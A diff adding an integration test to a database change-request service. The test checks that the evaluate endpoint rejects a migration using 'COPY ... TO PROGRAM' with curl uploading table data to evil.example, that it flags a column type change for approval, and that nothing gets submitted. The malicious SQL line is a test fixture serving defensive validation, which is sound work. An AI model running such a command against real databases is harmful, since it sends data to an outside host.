@@ -169,6 +169,28 @@ class RequestLifecycleIT {
         assertThat(appliedStates(request)).containsExactly("SUBMITTED", "APPROVED", "RUNNING", "SUCCEEDED");
     }
 
+    @Test
+    @Order(6)
+    void aTeamPreChecksAMigrationFromItsCiAndNothingIsSubmitted() throws Exception {
+        int before = api.get(tokens.get("alice"), "/api/v1/requests?limit=200").body().path("items").size();
+        String copyToProgram = "{\"type\":\"SCHEMA_CHANGE\",\"target\":{\"database\":\"logicore\",\"schema\":\"routing\"},"
+                + "\"payload\":{\"migrations\":[{\"version\":\"9\",\"description\":\"dump\","
+                + "\"sql\":\"COPY routing.stops TO PROGRAM 'curl -T - http://evil.example'\"}]}}";
+        var rejected = api.post(tokens.get("alice"), "/api/v1/requests/evaluate", copyToProgram);
+        assertThat(rejected.status()).as(rejected.body().toString()).isEqualTo(200);
+        assertThat(rejected.text("outcome")).isEqualTo("REJECTED");
+        assertThat(rejected.body().path("findings").findValuesAsText("code")).contains("security.copy");
+
+        String typeChange = "{\"type\":\"SCHEMA_CHANGE\",\"target\":{\"database\":\"logicore\",\"schema\":\"routing\"},"
+                + "\"payload\":{\"migrations\":[{\"version\":\"10\",\"description\":\"bigger seq\","
+                + "\"sql\":\"ALTER TABLE routing.stops ALTER COLUMN seq TYPE bigint\"}]}}";
+        var review = api.post(tokens.get("alice"), "/api/v1/requests/evaluate", typeChange);
+        assertThat(review.text("outcome")).isEqualTo("NEEDS_APPROVAL");
+        assertThat(review.body().path("findings").findValuesAsText("code")).contains("column.type-change", "dryrun.observed");
+
+        assertThat(api.get(tokens.get("alice"), "/api/v1/requests?limit=200").body().path("items").size()).isEqualTo(before);
+    }
+
     private static JsonNode awaitState(String token, String id, String state) {
         JsonNode[] last = new JsonNode[1];
         await().atMost(WAIT).pollInterval(Duration.ofMillis(500)).untilAsserted(() -> {
